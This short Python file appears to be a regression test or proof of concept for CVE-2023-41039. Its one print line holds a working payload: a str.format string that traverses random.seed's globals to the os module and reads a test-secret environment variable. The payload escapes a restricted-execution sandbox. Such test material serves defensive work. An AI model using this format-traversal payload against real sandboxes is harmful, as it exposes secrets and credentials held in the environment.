# CVE-2023-41039: format traversal through a bound method of an allowed module's object.
import random
print("{0.__func__.__globals__[_os].environ[STATEK_TEST_SECRET]}".format(random.seed))
